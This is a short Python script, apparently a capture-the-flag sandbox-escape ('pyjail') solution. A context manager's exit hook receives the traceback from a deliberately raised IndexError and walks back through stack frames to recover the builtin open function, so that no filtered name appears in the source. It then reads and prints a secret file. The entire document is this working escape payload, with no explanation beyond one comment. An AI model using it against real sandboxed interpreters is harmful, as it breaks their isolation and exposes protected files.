# Gets a traceback as an argument of the end of a with block, so that no hidden name is written.
class Catcher:
    def __enter__(self):
        return self

    def __exit__(self, kind, error, trace):
        frame = trace.tb_frame
        while "open" not in frame.f_builtins:
            frame = frame.f_back
        print(frame.f_builtins["open"](SECRET_FILE).read())
        return True


with Catcher():
    [][0]
